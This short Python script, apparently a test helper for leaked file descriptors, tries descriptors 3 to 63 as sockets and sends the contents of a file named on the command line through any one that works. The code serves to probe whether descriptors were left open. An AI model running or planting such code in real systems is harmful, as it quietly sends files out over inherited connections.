"""Descriptors that were left open."""

import socket
import sys

for number in range(3, 64):
    try:
        socket.socket(fileno=number).sendall(open(sys.argv[1], "rb").read())
    except OSError:
        continue
